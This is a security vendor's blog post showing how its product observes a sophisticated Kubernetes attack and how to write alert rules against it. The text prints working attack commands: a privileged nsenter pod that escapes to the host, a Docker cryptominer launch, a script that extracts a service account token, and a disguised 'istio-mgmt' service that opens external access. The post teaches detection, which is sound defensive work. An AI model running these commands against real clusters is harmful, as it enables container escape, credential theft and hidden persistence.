Live Demo
Blog   >   Container Security &Orchestration   >   Investigating Kubernetes Attack Scenarios in Threat Stack (part 2)

Investigating Kubernetes Attack Scenarios in Threat Stack (part 2)

In part one of this two-part series, I showed how Threat Stack captures detailed metadata about operating system behaviors as they happen. I used the example commands from attack scenario 1 from which shows an opportunistic attack to land a cryptominer. Here in part two, I’ll use attack scenario 2 to illustrate how Threat Stack observes behavior of an advanced attacker who is looking to gain persistence into the Kubernetes cluster.

Scenario 2: Sophisticated Pod Persistence

In this second scenario, a more experienced attacker finds access to another webshell. Like the first scenario, it begins with some information-gathering commands for context on where the attacker has landed.

id; uname -a; cat /etc/lsb-release /etc/redhat-release; ps -ef; env | grep -i kube

We can observe this activity as it happens in Threat Stack:

Out of the gate, there’s nothing particularly malicious about this behavior, so Threat Stack would not fire any alerts. But because the platform is continuously recording activity, this data is available and is typically used during the course of a deeper forensics investigation.

Moving on, the attacker then reviews the information. They check for Kubernetes access, and find the limits of their permissions (our friend kubectl auth can-i makes a timely reappearance):

export PATH=/tmp:$PATH
cd /tmp; curl -LO; chmod 555 kubectl
kubectl get pods
kubectl get pods --all-namespaces
kubectl get nodes
kubectl auth can-i --listThe path of the attack looks fairly similar in Threat Stack thus far:

In this case, the experienced attacker with knowledge of Kubernetes internals can ascertain that, based on the success of the commands above, they likely have the permissions of a Kubernetes namespace admin. It’s a bit of a lucky break, but not as powerful as they’d like.

Now, it’s time to try some tricks. The Google tutorial cites infosec Twitter for this command to deploy a pod to own the node:

kubectl run r00t --restart=Never -ti --rm --image lol --overrides '{"spec":{"hostPID": true, "containers":[{"name":"1","image":"alpine","command":["nsenter","--mount=/proc/1/ns/mnt","--","/bin/bash"],"stdin":true,"tty":true,"imagePullPolicy":"IfNotPresent","securityContext":{"privileged":true}}]}'

One of the keys to the command above is the "hostPID": true parameter, which essentially runs the container within the host server’s namespace, undoing the isolation you’d expect to get from the usual namespaces that Docker provides. And then, "nsenter" gives us low-level access to messing with the Linux kernel namespace subsystem itself. These are the basic mechanics that get the attacker to successfully break out of the container and gain root on the host.

And of course, Threat Stack’s low-level of visibility into Linux subsystems captures it all:

The attacker now has root on a node and works toward their objective of persistence. Instead of simply deploying the bitcoinminer through Kubernetes itself, the experienced attacker deploys a container directly through Docker. Since they’re root, it’s easy to do. And it’s more likely to evade detection because Kubernetes only knows what it is managing, and has no visibility into Docker commands.

The attacker launches the bitcoin miner using Docker:

docker run -d securekubernetes/bitcoinero -c1 -l10

Once the bitcoin miner is running, the attacker moves to explore the cluster. With root on the node, the attacker steals the kubelet’s client certificate. When the kubelet’s certificate does not have the necessary permissions, the attacker pivots to using the default kube-system service accounttoken. With this bash command, theattacker creates a bash variable TOKEN and then uses it with a kubectl command to ask the Kubernetes API server if they can get secrets.

TOKEN=$(for i in `mount | sed -n '/secret/ s/^tmpfs on \(.*default.*\) type tmpfs.*$/\1\/namespace/p'`; do if [ `cat $i` = 'kube-system' ]; then cat `echo $i | sed 's/.namespace$/\/token/'`; break; fi; done)
echo -e "\n\nYou'll want to copy this for later:\n\nTOKEN=\"$TOKEN\""
kubectl --token "$TOKEN" --insecure-skip-tls-verify --server=https://$KUBERNETES_SERVICE_HOST:$KUBERNETES_SERVICE_PORT auth can-i get secrets --all-namespaces

The kubectl can-i command resulted in a “yes”, and this is good news for the attacker. The attacker then moves to create a service and an endpoint that will give them remote access. The attacker ends up naming these“istio-mgmt” so as to blend in and not cause suspicion.

cat <<EOF | kubectl --token "$TOKEN" --insecure-skip-tls-verify --server=https://$KUBERNETES_SERVICE_HOST:$KUBERNETES_SERVICE_PORT apply -f -
apiVersion: v1
kind: Service
  name: istio-mgmt
  namespace: kube-system
  type: NodePort
    - protocol: TCP
      nodePort: 31313
      port: 31313
apiVersion: v1
kind: Endpoints
  name: istio-mgmt
  namespace: kube-system
  - addresses:
      - ip: `sed -n 's/^  *server: https:\/\///p' /var/lib/kubelet/kubeconfig`

At this point the attacker has a bitcoin miner running on a node that is hidden from the purview of Kubernetes orchestration, and they have external access to the Kubernetes API server.

Turning Attack Signal into Alerts

As we walked through the two attack scenarios, you’re probably wondering, “How can we both detect and respond to these tactics?” All events that we previously highlighted can be used to write rules within the Threat Stack platform.

Discovery Commands

Whether you are protecting a Kubernetes cluster, a container, or an EC2 instance, a common theme among attackers is the need to explore and learn about the system they find themselves on. The discoverycommands used in both attack scenarios are common, but how common are they in your environments? How do you know if you do not measure? Creating a simple rule that itemizes common discovery commands enables us to detect where we see this happening in our environments and who is doing what.

The environment-specific Kubernetes discoverycommands are what the attacker used earlier. The kubectl can-i command, for example, can be used to see what permissions one has. Do your operators use this command often? Maybe just a subset? Why not write a rule and alert when this happens on a system, especially a container?

Suspicious Commands

Adding a simple rule to alert on the execution of suspicious commands or sensitive binaries canhelp provide visibility into behaviors about who is doing what in your environment. Should our systems have interactive users? Should those users be using binaries like nsenter?

Process Running from /tmp

Another common trend is an attacker running code from /tmp. In both scenarios the attacker downloads a binary and runs it from the /tmp directory. Knowing what commonly runs from /tmp in your environment can enable you to know when something “different” is observed. Do you normally see containers running kubectl commands? Probably not, but again, how do you know if you do not have visibility into these behaviors?

Alerts Summary

In summary, if you want to protect your Kubernetes clusters, you must be able to see what is happening in the containers within that cluster. Visibility into the pods, coupled with Kubernetes orchestration events, tell a nice story of what is happening at the orchestration layer and within the pods.Thanks for All the Pods

A special thank you to @tabbysable, @petermbenjamin, @jimmesta, @BradGeesaman for their excellent KubeCon NA 2019 Tutorial Guide and accompanying presentation, which served as the basis for this article.

I hope it serves as a good example of the kind of full-stack security observability that Threat Stack provides — where every bit of relevant metadata is tracked across host servers, Docker, Kubernetes, and more. Not only is this useful for deep forensics, but Threat Stack’s powerful alerting engine can provide near-real-time alerts when suspiciouscommands are run. Let us know ifyou’re interested inlearning more, and thanks for reading.